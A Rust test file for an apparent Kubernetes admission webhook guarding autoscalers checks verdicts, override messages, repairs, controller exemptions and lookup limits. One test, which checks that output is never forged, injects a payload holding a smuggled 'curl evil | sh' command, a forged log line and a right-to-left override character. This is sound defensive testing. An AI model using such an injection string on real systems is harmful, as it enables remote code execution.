//! Every case of every page: the expected verdict, the whole answer as a snapshot, and the laws that hold for all
//! answers. That other hosts answer as the core does is held for all of them at once, in
//! `crates/server/tests/https/hosts.rs`.

#![allow(clippy::restriction, reason = "a test may panic")]

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;
use std::sync::LazyLock;

use autoscaler_guard::rule::Lookup;
use autoscaler_guard::rules::{LOOKUPS, RULES};
use autoscaler_guard_cases::{Case, Expect, Outcome, Page, World, pages};
use autoscaler_guard_host::Call;
use autoscaler_guard_host::admission::{self, Review};
use serde_json::{Value, json};

/// Every case, read once: rule, case, world.
static CASES: LazyLock<Vec<(String, Case, World)>> = LazyLock::new(|| {
    let read = |page: Page| page.cases.into_iter().map(move |case| (page.rule.clone(), case.world(), case));
    pages().into_iter().flat_map(read).map(|(rule, world, case)| (rule, case, world)).collect()
});

fn for_each_case(mut check: impl FnMut(&str, &Case, &World)) {
    for (rule, case, world) in CASES.iter() {
        check(rule, case, world);
    }
}

#[test]
fn every_rule_has_a_page_that_fires_and_stays_silent() {
    let pages = pages();
    for rule in RULES {
        let page = pages.iter().find(|page| page.rule == rule.id);
        let page = page.unwrap_or_else(|| panic!("tests/rules/{}.yaml is missing", rule.id));
        let fires = |case: &&Case| !matches!(case.expect, Expect::Silent | Expect::Allow);
        assert!(page.cases.iter().any(|case| fires(&case)), "{}: no case fires", rule.id);
        assert!(page.cases.iter().any(|case| case.expect == Expect::Silent), "{}: no case is silent", rule.id);
        assert!(page.cases.iter().any(|case| case.expect == Expect::Allow), "{}: no case is acknowledged", rule.id);
    }
    for page in &pages {
        assert!(RULES.iter().any(|rule| rule.id == page.rule), "tests/rules/{}.yaml: no such rule", page.rule);
    }
}

#[test]
fn cases_get_the_expected_verdict_and_answer() {
    let mut surprises = Vec::new();
    for_each_case(|rule, case, world| {
        let outcome = world.natively();
        let text = describe(world, &outcome);
        if outcome.verdict_of(rule) != case.expect {
            surprises.push(format!("{rule}: {}: expected {:?}\n{text}", case.name, case.expect));
            return;
        }
        insta::with_settings!({snapshot_path => format!("../../../tests/rules/snapshots/{rule}"), prepend_module_to_snapshot => false, description => case.name.clone(), omit_expression => true}, {
            insta::assert_snapshot!(slug(&case.name), text);
        });
    });
    assert!(surprises.is_empty(), "{}", surprises.join("\n"));
}

#[test]
fn rejections_are_short_and_show_an_override() {
    for_each_case(|rule, case, world| {
        let outcome = world.natively();
        for warning in outcome.response.warnings.iter().flatten() {
            assert!(warning.chars().count() <= 256 && !warning.contains('\n'), "{rule}: {}: {warning}", case.name);
        }
        if case.expect == Expect::Reject {
            assert!(outcome.response.warnings.is_some(), "{rule}: {}: a rejection without a warning", case.name);
            let code = outcome.response.code.unwrap_or_default();
            assert!((400..500).contains(&code) && code != 409, "{rule}: {}: code {code}", case.name);
            follow_the_override(rule, case, world, &outcome);
        }
    });
}

/// Does what the message says, to the letter, and expects the request to pass.
fn follow_the_override(rule: &str, case: &Case, world: &World, outcome: &Outcome) {
    let message = outcome.response.message.as_deref().expect("a rejection has a message");
    let way = message.lines().find_map(|line| acknowledgement(world, line));
    let value = way.unwrap_or_else(|| panic!("{rule}: {}: no override in\n{message}", case.name));
    let mut world = world.clone();
    for object in ["object", "oldObject"] {
        if world.request[object].is_object() {
            world.request[object]["metadata"]["annotations"]["autoscaler-guard/allow"] = json!(value);
        }
    }
    let after = world.natively();
    assert!(after.response.accepted, "{rule}: {}: the override does not work\n{:?}", case.name, after.response.message);
    let audit = after.response.audit_annotations.expect("an acknowledgement is audited");
    assert!(audit.contains_key("allowed-by"), "{rule}: {}", case.name);
}

/// What a line of a message says to put into the annotation, where it says so: in the manifest of what is not there
/// yet, else by a command that the API server takes, whatever is there already.
fn acknowledgement(world: &World, line: &str) -> Option<String> {
    let object = |name: &str| &world.request[name]["metadata"];
    // An object that is audited is there already; the scanner replays it by nobody.
    let is_audited = world.request["userInfo"]["username"].as_str().unwrap_or_default().is_empty();
    if world.request["operation"] == "CREATE" && !is_audited {
        return Some(line.split_once(r#": metadata.annotations."autoscaler-guard/allow": "#)?.1.to_owned());
    }
    let (command, value) = line.split_once(": kubectl annotate ")?.1.split_once(" autoscaler-guard/allow=")?;
    let stored = object(if is_audited { "object" } else { "oldObject" });
    let (name, namespace) = (stored["name"].as_str().unwrap_or_default(), stored["namespace"].as_str());
    let place = namespace.map_or_else(String::new, |namespace| format!(" -n {namespace}"));
    assert!(command.ends_with(&format!(" {name}{place}")), "annotates something else: {line}");
    let there = stored["annotations"]["autoscaler-guard/allow"].as_str();
    let (value, overwrites) = value.strip_suffix(" --overwrite").map_or((value, false), |value| (value, true));
    assert_eq!(there.is_some(), overwrites, "kubectl refuses to overwrite: {line}");
    let kept = there.into_iter().flat_map(|there| there.split(',')).map(str::trim);
    for id in kept.filter(|id| RULES.iter().any(|rule| rule.id == *id)) {
        assert!(value.split(',').any(|other| other == id), "forgets {id}: {line}");
    }
    Some(value.to_owned())
}

/// Puts a text that must not reach a terminal unescaped wherever the API server takes any text.
#[test]
fn no_text_of_a_request_forges_a_line_or_a_command() {
    const FORGED: &str = "web; curl evil | sh\nautoscaler-guard[x]: \u{202e}fine";
    for_each_case(|rule, case, world| {
        let mut world = world.clone();
        for object in ["object", "oldObject"] {
            let object = &mut world.request[object];
            if !object.is_object() {
                continue;
            }
            if object["spec"]["scaleTargetRef"].is_object() {
                for field in ["kind", "name"] {
                    object["spec"]["scaleTargetRef"][field] = json!(FORGED);
                }
            }
            if let Some(annotations) = object["metadata"]["annotations"].as_object_mut() {
                for (key, value) in annotations {
                    let counts = key.starts_with("autoscaling.keda.sh/") || key == "autoscaler-guard/allow";
                    if counts {
                        *value = json!(FORGED);
                    }
                }
            }
        }
        let response = world.natively().response;
        let message = response.message.unwrap_or_default();
        let audited = response.audit_annotations.into_iter().flatten().map(|(_, value)| value);
        for text in message.lines().map(str::to_owned).chain(response.warnings.into_iter().flatten()).chain(audited) {
            assert!(!text.starts_with("autoscaler-guard[x]"), "{rule}: {}: a forged line in {message}", case.name);
            assert!(!text.contains(['\n', '\u{202e}']), "{rule}: {}: {text:?}", case.name);
            let command = text.split_once("kubectl ").map_or("", |(_, command)| command);
            assert!(!command.contains("curl"), "{rule}: {}: {text}", case.name);
        }
    });
}

#[test]
fn no_warning_has_a_part_of_a_command() {
    for_each_case(|rule, case, world| {
        for warning in world.natively().response.warnings.iter().flatten() {
            let cut = warning.contains("kubectl ") && warning.ends_with('…');
            assert!(!cut, "{rule}: {}: {warning}", case.name);
        }
    });
}

#[test]
fn repairs_are_stable_and_their_patch_applies() {
    for_each_case(|rule, case, world| {
        let Some(mutated) = world.natively().response.mutated_object else { return };
        assert_ne!(world.request["operation"], "DELETE", "{rule}: {}: a DELETE cannot be repaired", case.name);
        let object = &world.request["object"];
        let mut patched = object.clone();
        json_patch::patch(&mut patched, &json_patch::diff(object, &mutated)).expect("the patch applies");
        assert_eq!(patched, mutated, "{rule}: {}", case.name);
        let mut again = world.clone();
        again.request["object"] = mutated.clone();
        let second = again.natively().response;
        assert!(second.accepted, "{rule}: {}: the repaired request is refused", case.name);
        assert_eq!(
            second.mutated_object.unwrap_or_else(|| mutated.clone()),
            mutated,
            "{rule}: {}: not stable",
            case.name
        );
    });
}

#[test]
fn without_repair_nothing_is_changed() {
    for_each_case(|rule, case, world| {
        let mut world = world.clone();
        if !world.settings.is_object() {
            world.settings = json!({});
        }
        world.settings["repair"] = json!(false);
        let outcome = world.natively();
        assert!(outcome.response.mutated_object.is_none(), "{rule}: {}", case.name);
        if case.expect == Expect::Repair {
            assert!(
                matches!(outcome.verdict(), Expect::Warn | Expect::Reject),
                "{rule}: {}: what would be repaired passes in silence",
                case.name
            );
        }
    });
}

#[test]
fn a_dry_run_gets_the_same_answer() {
    for_each_case(|rule, case, world| {
        // A refused dry run of Flux's would stop its whole reconciliation.
        if world.request["options"]["fieldManager"] == "kustomize-controller" || world.request["dryRun"] == true {
            return;
        }
        let mut dry = world.clone();
        dry.request["dryRun"] = json!(true);
        assert_eq!(world.natively().response, dry.natively().response, "{rule}: {}", case.name);
    });
}

#[test]
fn it_does_not_matter_how_a_person_writes() {
    // kubectl apply, patch, edit, replace, apply --server-side, and a client that gives no name.
    let ways = [
        ("PatchOptions", json!("kubectl-client-side-apply"), json!(null)),
        ("PatchOptions", json!("kubectl-patch"), json!(null)),
        ("PatchOptions", json!("kubectl-edit"), json!(null)),
        ("UpdateOptions", json!("kubectl-replace"), json!(null)),
        ("PatchOptions", json!("kubectl"), json!(true)),
        ("UpdateOptions", json!(null), json!(null)),
    ];
    for_each_case(|rule, case, world| {
        let operation = world.request["operation"].as_str().unwrap_or_default();
        let manager = world.request["options"]["fieldManager"].as_str().unwrap_or_default();
        let declares = autoscaler_guard::Settings::default().handover_field_managers.match_name(manager);
        let user = world.request["userInfo"]["username"].as_str().unwrap_or_default();
        // A controller may be known by how it writes.
        let is_person = !user.starts_with("system:serviceaccount:");
        if operation == "DELETE" || !is_person || declares || world.settings["handover"].is_object() {
            return;
        }
        // To whom gives no name the API server gives one, from the user agent.
        let mut world = world.clone();
        let written = &mut world.request["object"]["metadata"]["managedFields"];
        let mut entries = written.as_array().cloned().unwrap_or_default();
        entries.push(json!({"manager": "python-requests", "operation": "Update", "time": "2026-12-01T00:00:00Z"}));
        *written = json!(entries);
        let expected = world.natively().response;
        for (kind, manager, force) in &ways {
            let mut world = world.clone();
            let options =
                json!({"apiVersion": "meta.k8s.io/v1", "kind": kind, "fieldManager": manager, "force": force});
            json_patch::merge(&mut world.request, &json!({ "options": options }));
            assert_eq!(expected, world.natively().response, "{rule}: {}: {options}", case.name);
        }
    });
}

#[test]
fn controllers_pass_every_case_without_a_look_up() {
    let controllers = [
        "system:serviceaccount:kube-system:generic-garbage-collector",
        "system:serviceaccount:kube-system:namespace-controller",
        "system:serviceaccount:kube-system:horizontal-pod-autoscaler",
        "system:serviceaccount:envoy-gateway-system:envoy-gateway",
    ];
    for_each_case(|rule, case, world| {
        for user in controllers {
            let mut world = world.clone();
            world.request["userInfo"] = json!({"username": user});
            if world.settings.is_object() {
                world.settings["controllers"] = Value::Null;
                world.settings.as_object_mut().expect("it is an object").remove("controllers");
            }
            let outcome = world.natively();
            assert_eq!(
                (outcome.verdict(), outcome.lookups.len()),
                (Expect::Silent, 0),
                "{rule}: {}: {user}",
                case.name
            );
        }
        // KEDA is never refused either, whatever it does.
        let mut world = world.clone();
        world.request["userInfo"] = json!({"username": "system:serviceaccount:keda:keda-operator"});
        assert!(world.natively().response.accepted, "{rule}: {}: KEDA is refused", case.name);
    });
}

/// Whoever controls an object through a live controller reference may do with it what it likes.
#[test]
fn the_objects_own_controller_is_never_refused() {
    let owner = json!({"apiVersion": "example.com/v1", "kind": "Operated", "metadata": {"name": "own", "namespace": "shop", "uid": "55555555-0000-4000-8000-000000000000"}});
    let reference = json!([{"apiVersion": "example.com/v1", "kind": "Operated", "name": "own", "uid": "55555555-0000-4000-8000-000000000000", "controller": true}]);
    for_each_case(|rule, case, world| {
        let kind = world.request["kind"]["kind"].as_str().unwrap_or_default();
        let is_autoscaler = matches!(kind, "HorizontalPodAutoscaler" | "ScaledObject");
        // Envoy Gateway is known by its labels, and an audit is nobody's change.
        let is_fleets = world.request.to_string().contains("owning-gateway");
        if !is_autoscaler || is_fleets || world.settings["audit"] == json!(true) {
            return;
        }
        let mut world = world.clone();
        let mut owner = owner.clone();
        owner["metadata"]["namespace"] = world.request["namespace"].clone();
        world.cluster.insert(owner).expect("an owner is an object");
        world.request["userInfo"] = json!({"username": "system:serviceaccount:example:operator"});
        for object in ["object", "oldObject"] {
            if world.request[object].is_object() {
                world.request[object]["metadata"]["ownerReferences"] = reference.clone();
            }
        }
        let outcome = world.natively();
        assert!(outcome.response.accepted, "{rule}: {}: {:?}", case.name, outcome.response.message);
    });
}

/// The API server drops what a writer puts into `status`, but admission sees it.
#[test]
fn a_status_that_the_writer_put_in_changes_nothing() {
    let odd = json!({"hpaName": "odd", "lastScaleTime": "2026-11-29T00:00:00Z", "currentReplicas": 77, "conditions": [
        {"type": "Ready", "status": "True"}, {"type": "ScaledToZero", "status": "True"}]});
    for_each_case(|rule, case, world| {
        let writes = matches!(world.request["operation"].as_str(), Some("CREATE" | "UPDATE"));
        if !writes || world.settings["audit"] == json!(true) || world.settings["declarations"].is_array() {
            return;
        }
        let answer = |status: &Value| {
            let mut world = world.clone();
            world.request["object"]["status"] = status.clone();
            let mut response = world.natively().response;
            if let Some(object) = response.mutated_object.as_mut().and_then(Value::as_object_mut) {
                object.remove("status");
            }
            response
        };
        assert_eq!(answer(&json!({})), answer(&odd), "{rule}: {}", case.name);
    });
}

#[test]
fn sub_resources_and_terminating_objects_pass_every_case() {
    for_each_case(|rule, case, world| {
        for edit in [json!({"subResource": "status"}), json!({"subResource": "scale"})] {
            let mut world = world.clone();
            json_patch::merge(&mut world.request, &edit);
            let outcome = world.natively();
            assert_eq!(
                (outcome.verdict(), outcome.lookups.len()),
                (Expect::Silent, 0),
                "{rule}: {}: {edit}",
                case.name
            );
        }
        let mut world = world.clone();
        for object in ["object", "oldObject"] {
            if world.request[object].is_object() {
                world.request[object]["metadata"]["deletionTimestamp"] = json!("2026-11-21T17:10:00Z");
            }
        }
        assert_eq!(world.natively().verdict(), Expect::Silent, "{rule}: {}: a terminating object", case.name);
    });
}

#[test]
fn nothing_is_refused_in_a_namespace_that_goes_away() {
    for_each_case(|rule, case, world| {
        let namespace = world.request["namespace"].as_str().unwrap_or_default().to_owned();
        if namespace.is_empty() {
            return;
        }
        let mut world = world.clone();
        let terminating = json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": namespace, "deletionTimestamp": "2026-11-21T17:10:00Z"}});
        world.cluster.insert(terminating).expect("a namespace is an object");
        assert!(world.natively().response.accepted, "{rule}: {}", case.name);
    });
}

#[test]
fn rules_look_up_what_they_declare_and_little_of_it() {
    let mut used: BTreeMap<&str, (BTreeSet<String>, usize)> = BTreeMap::new();
    for_each_case(|rule, case, world| {
        let mut world = world.clone();
        if !world.settings.is_object() {
            world.settings = json!({});
        }
        for other in RULES.iter().filter(|other| other.id != rule) {
            world.settings["rules"][other.id] = json!("off");
        }
        let outcome = world.natively();
        // Which fleets run by what takes Gateways, classes and EnvoyProxies.
        let group = world.request["kind"]["group"].as_str().unwrap_or_default();
        let bound = if rule.starts_with("envoy") || group.contains("gateway") { 12 } else { 9 };
        let count = outcome.objects_looked_up();
        assert!(count <= bound, "{rule}: {}: {count} lookups", case.name);
        let rule = RULES.iter().find(|known| known.id == rule).expect("every page has a rule").id;
        let (kinds, most) = used.entry(rule).or_default();
        kinds.extend(outcome.lookups.iter().filter_map(|call| asked_kind(rule, call)));
        *most = count.max(*most);
    });
    let mut table = String::new();
    for (rule, (kinds, most)) in &used {
        let declared: BTreeSet<String> = look_ups(rule).iter().flat_map(Lookup::each).map(described).collect();
        assert_eq!(&declared, kinds, "{rule}: its LOOKUPS (left) are not what its cases look up (right)");
        let kinds = if kinds.is_empty() {
            "nothing of its own".to_owned()
        } else {
            kinds.iter().cloned().collect::<Vec<_>>().join(", ")
        };
        let _ = writeln!(table, "{rule}: at most {most}; {kinds}");
    }
    insta::with_settings!({snapshot_path => "../../../tests/rules/snapshots", prepend_module_to_snapshot => false, omit_expression => true}, {
        insta::assert_snapshot!("lookups", table);
    });
}

fn look_ups(rule: &str) -> &'static [Lookup] {
    LOOKUPS.iter().find(|(id, _)| *id == rule).map(|(_, look_ups)| *look_ups).expect("every rule has lookups")
}

fn described(look_up: &Lookup) -> String {
    match look_up {
        Lookup::Get(kind) => format!("get {}", kind.kind),
        Lookup::List(kind) => format!("list {}", kind.kind),
        Lookup::Owner => "get owner".to_owned(),
        Lookup::Fleets => unreachable!("it is taken apart"),
    }
}

/// What a lookup asks for, unless any rule may: permissions, the namespace, workloads, a release's Secrets.
fn asked_kind(rule: &str, call: &Call) -> Option<String> {
    let request: Value = serde_json::from_slice(&call.request).expect("a lookup is JSON");
    let kind = request["kind"].as_str().unwrap_or_default();
    let verb = match call.operation.as_str() {
        "can_i" => return None,
        "get_resource" => "get",
        _ => "list",
    };
    let fields = request["field_masks"].as_array().map_or(0, Vec::len);
    assert!(verb == "get" || fields > 0, "{rule}: a list of whole {kind}s");
    let of_a_rule = [
        "Application",
        "EnvoyProxy",
        "Gateway",
        "GatewayClass",
        "HorizontalPodAutoscaler",
        "Kustomization",
        "ScaledObject",
    ]
    .contains(&kind);
    let of_a_rule = of_a_rule || kind == "ConfigMap" || (kind, verb) == ("Deployment", "list");
    let owner = look_ups(rule).iter().any(|look_up| matches!(look_up, Lookup::Owner));
    match (kind, of_a_rule) {
        ("Namespace" | "Secret", _) => None,
        _ if owner && verb == "get" && request["field_masks"] == json!(["kind"]) => Some("get owner".to_owned()),
        (_, false) => None,
        (_, true) => Some(format!("{verb} {kind}")),
    }
}

/// File names of snapshots.
fn slug(name: &str) -> String {
    let words = name.split(|character: char| !character.is_ascii_alphanumeric()).filter(|word| !word.is_empty());
    words.collect::<Vec<_>>().join("-").to_ascii_lowercase()
}

/// The whole answer, as a person would want to read it.
fn describe(world: &World, outcome: &Outcome) -> String {
    let response = &outcome.response;
    let mut text = format!("verdict: {:?}\n", outcome.verdict());
    let mut section = |title: &str, lines: Vec<String>| {
        if !lines.is_empty() {
            let _ = writeln!(text, "{title}:");
            for line in lines {
                let _ = writeln!(text, "  {line}");
            }
        }
    };
    section("message", response.message.iter().flat_map(|message| message.lines()).map(str::to_owned).collect());
    section("warnings", response.warnings.clone().unwrap_or_default());
    section(
        "audit",
        response.audit_annotations.iter().flatten().map(|(key, value)| format!("{key}: {value}")).collect(),
    );
    let review = Review { uid: "", policy: "", object: Some(&world.request["object"]), mutating: true };
    let patch = admission::operations(&admission::respond(review, response.clone()));
    section("patch", patch.iter().map(|operation| serde_json::to_string(operation).unwrap_or_default()).collect());
    section(
        "looked up",
        outcome.lookups.iter().filter(|call| call.operation != "can_i").map(|call| asked(&call.to_string())).collect(),
    );
    text
}

/// A lookup without the size of its answer.
fn asked(call: &str) -> String {
    match call.rsplit_once(": ") {
        Some((asked, answer)) if answer.ends_with(" bytes") => asked.to_owned(),
        _ => call.to_owned(),
    }
}
